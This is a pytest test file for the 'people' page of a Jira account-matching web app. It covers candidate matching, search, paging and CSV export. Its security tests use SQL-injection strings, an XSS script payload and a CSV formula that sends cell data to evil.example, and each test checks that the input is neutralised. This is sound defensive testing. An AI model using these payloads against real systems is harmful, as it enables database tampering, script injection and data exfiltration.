from __future__ import annotations

import csv
import io

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from jira_assets.state import TeamMember
from jira_assets.web.csv_export import write_csv
from jira_assets_tests.sampling import sampled
from jira_assets_tests.web.conftest import FROM_HERE, OpenPage, Page
from jira_assets_tests.web.hand_made import write_warehouse

TEAM = [TeamMember("m1", "Ana Silva"), TeamMember("m2", "Ana Silva"), TeamMember("m3", "Bo Li")]


def decisions(page: Page) -> dict[str, str | None]:
    return {override.account_id: override.member_id for override in page.state.team.overrides()}


def test_before_the_first_publish_it_says_where_people_come_from(page: Page) -> None:
    assert "No people yet" in page.get("/people")


def test_accounts_are_listed_once_with_why_and_activity_the_busiest_first(published: Page) -> None:
    text = published.get("/people")
    assert [text.count(f'name="account_id" value="{key}"') for key in ("acc-1", "acc-2", "acc-3")] == [
        1,
        1,
        1,
    ]
    assert text.index("Ana Silva") < text.index("Build bot") < text.index("Bo Li")
    assert "display name is shared by 2 members" in text
    assert "PAY, WEB" in text
    assert "Gone" not in text, "an ignored account is decided"


def test_the_match_rate_is_weighted_by_activity(published: Page) -> None:
    text = published.get("/people")
    assert "60.0\u202f%" in text, "60 of the 100 issues of PAY"
    assert "57.7\u202f%" in text, "60 of 104 in all"


def test_candidates_are_one_click_away_and_never_taken_by_themselves(published: Page) -> None:
    published.state.team.replace(TEAM)
    assert 'value="match:m2"' in published.get("/people")
    assert decisions(published) == {}
    text = published.send("/people", account_id="acc-1", decision="match:m2")
    assert decisions(published) == {"acc-1": "m2"}
    assert "Matched." in text
    assert "Decided by hand" in text
    assert 'name="member"' in text
    assert text.count('value="acc-1"') == 1, "it stands among the decisions only"


def test_a_suggestion_says_what_speaks_for_it(published: Page) -> None:
    published.state.team.replace(TEAM)
    change(
        published,
        "update jira_unmatched_users set suggestions = ['m3'], suggested_because = ['initials fit the name'] "
        "where account_id = 'acc-3'",
    )
    text = published.get("/people")
    assert 'value="match:m3"' in text
    assert "Bo Li: initials fit the name" in text


def test_a_decision_is_taken_back(published: Page) -> None:
    published.send("/people", account_id="acc-2", decision="ignore")
    assert decisions(published) == {"acc-2": None}
    assert "Decision removed." in published.send("/people", account_id="acc-2", decision="undo")
    assert decisions(published) == {}


@pytest.mark.parametrize(
    ("typed", "word"),
    [("Ana Silva", "2 team members are named"), ("Cy", "No member of the team has"), ("", "No team member")],
)
def test_a_member_who_is_not_clear_is_refused(published: Page, typed: str, word: str) -> None:
    published.state.team.replace(TEAM)
    form = {"account_id": "acc-3", "decision": "match", "member": typed}
    answer = published.client.post("/people", data=form, headers=FROM_HERE)
    assert answer.status_code == 400
    assert word in answer.text
    assert decisions(published) == {}
    assert f'value="{typed}" aria-invalid="true"' in answer.text, "what was typed is there to be corrected"
    assert 'name="account_id" value="acc-1"' in answer.text, "the other accounts are there, too"


def test_a_refused_decision_keeps_the_search(published: Page) -> None:
    published.state.team.replace(TEAM)
    form = {"account_id": "acc-3", "decision": "match", "member": "Cy"}
    answer = published.client.post("/people?q=bo&project=WEB", data=form, headers=FROM_HERE)
    assert 'name="q" value="bo"' in answer.text
    assert 'action="/people?q=bo&amp;project=WEB"' in answer.text


def test_a_member_is_found_by_id_address_or_a_name_of_her_own(published: Page) -> None:
    published.state.team.replace([*TEAM, TeamMember("m9", "Cy", "cy@acme.com")])
    published.send("/people", account_id="acc-3", decision="match", member="CY@acme.com")
    assert decisions(published) == {"acc-3": "m9"}
    published.send("/people", account_id="acc-3", decision="match", member="bo li")
    published.send("/people", account_id="acc-2", decision="match", member="m1")
    assert decisions(published) == {"acc-3": "m3", "acc-2": "m1"}


def test_a_search_finds_by_name_and_mail_and_stays_after_a_decision(published: Page) -> None:
    published.state.team.replace(TEAM)
    assert "Build bot" not in published.get("/people?q=BO@ACME&project=WEB")
    text = published.send("/people?q=bo&project=WEB", account_id="acc-3", decision="ignore")
    assert 'value="bo"' in text


HOSTILE = ["' or 1=1 --", '"; drop table jira_users; --', "%00", "\x00", "\\", "9" * 40, "$x"]


@pytest.mark.parametrize("value", sampled(HOSTILE, 7))
def test_sql_in_an_address_is_a_text_that_matches_nothing(published: Page, value: str) -> None:
    for name in ("q", "project", "page", "said"):
        assert published.client.get("/people", params={name: value}).status_code == 200
        assert published.client.get("/people.csv", params={name: value}).status_code == 200
    assert "Ana Silva" in published.get("/people")


def test_names_of_people_are_no_markup(page: Page) -> None:
    hostile = '<script>alert(1)</script>" onfocus="alert(2)'
    write_warehouse(page.settings, [("PAY", 'a"b<c>', hostile, None, hostile, ["m1"], 1, 1)])
    page.state.team.replace([TeamMember("m1", hostile)])
    text = page.get("/people")
    assert "<script>alert" not in text
    assert '" onfocus="' not in text


def test_the_csv_has_what_the_search_finds_without_formulas(page: Page) -> None:
    formula = '=HYPERLINK("http://evil.example?"&A1)'
    write_warehouse(page.settings, [("PAY", "acc-1", formula, "+1@x", "@why", ["m1"], 3, 1)])
    answer = page.client.get("/people.csv?q=HYPERLINK")
    assert "attachment" in answer.headers["content-disposition"]
    (row,) = csv.DictReader(io.StringIO(answer.text))
    assert row["display_name"] == f"'{formula}"
    assert row["email"] == "'+1@x"
    assert row["reason"] == "'@why"
    assert row["issues_assigned"] == "3"


@given(st.lists(st.tuples(st.text(), st.none() | st.integers() | st.floats(allow_nan=False)), max_size=5))
def test_no_cell_of_a_csv_begins_like_a_formula(rows: list[tuple[object, ...]]) -> None:
    text = "".join(write_csv(["a", "b"], rows))
    read = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert len(read) == len(rows)
    for (cell, number), (original, value) in zip(read, rows, strict=True):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell in (original, f"'{original}")
        assert number == ("" if value is None else str(value))


@pytest.mark.parametrize("account", ["a" * 100_000, "\x00", "nobody", "' or 1=1 --"])
def test_nothing_is_decided_about_an_account_that_nobody_saw(published: Page, account: str) -> None:
    form = {"account_id": account, "decision": "ignore"}
    answer = published.client.post("/people", data=form, headers=FROM_HERE)
    assert answer.status_code == 400
    assert "was not seen in any project" in answer.text
    assert published.state.team.overrides() == []


def test_members_whose_names_differ_in_spelling_only_are_told_apart(open_page: OpenPage) -> None:
    page = open_page()
    names = ("René Lévêque", "Rene\u0301 Le\u0301ve\u0302que")
    page.state.team.replace([TeamMember(f"m{number}", name) for number, name in enumerate(names)])
    person = ("PAY", "acc-1", names[0], None, "display name is shared by 2 members", ["m0", "m1"], 3, 1)
    write_warehouse(page.settings, [person])

    text = page.get("/people")
    assert all(f"({member})" in text for member in ("m0", "m1"))


def test_teams_are_shown_with_their_members_once_there_are_some(published: Page) -> None:
    published.state.team.replace(TEAM)
    assert 'id="teams"' not in published.get("/people")
    many = [TeamMember(f"c{number}", f"Person {number}", team="Core") for number in range(14)]
    published.state.team.replace(
        [*many, TeamMember("m3", "Bo Li", team="<b>"), TeamMember("m1", "Ana Silva")]
    )
    text = published.get("/people").partition('id="teams"')[2]
    assert text.index("&lt;b&gt;") < text.index("Core") < text.index("and 2 more") < text.index("No team")
    assert "<b>" not in text


@pytest.mark.prove
def test_a_hundred_thousand_accounts_are_paged(page: Page) -> None:
    write_warehouse(page.settings, [("PAY", "seed", "Nobody", None, "former user", [], 0, 0)])
    change(
        page,
        """insert into jira_unmatched_users by name
        select 'PAY' as project_key, 'acc-' || number as account_id, 'Person ' || number as display_name,
        'former user' as reason, []::varchar[] as candidates, number as issues_assigned,
        0 as issues_reported from range(100000) as numbers(number)""",
    )
    text = page.get("/people")
    assert "100\u202f001" in text
    assert text.count('name="account_id"') == 50
    assert len(text) < 200_000
    assert "Page 2 of 2\u202f001" in page.get("/people?page=2")
    assert page.client.get("/people.csv").text.count("\n") == 100_002


def change(page: Page, statement: str) -> None:
    with duckdb.connect(str(page.settings.warehouse_file.resolve())) as connection:
        connection.execute(statement)
